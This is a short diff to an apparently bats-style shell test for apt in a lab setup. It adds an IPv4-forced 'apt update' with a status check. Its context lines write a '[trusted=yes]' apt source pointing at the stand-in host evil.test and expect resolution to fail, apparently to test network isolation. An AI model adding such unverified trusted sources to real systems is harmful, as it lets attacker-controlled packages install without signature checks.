@@ -238,6 +238,8 @@ with requests.Session() as session:
 		[ "$status" = 0 ]
 		[ -f "$LAB/work/tiny_1.0_all.deb" ]
 	done
+	inside "${apt[@]}" -o Acquire::ForceIPv4=true update
+	[ "$status" = 0 ]
 	echo "deb [trusted=yes] https://evil.test/apt ./" >"$LAB/work/apt/etc/apt/sources.list"
 	missing "Could not resolve 'evil.test'" "${apt[@]}" update
 }
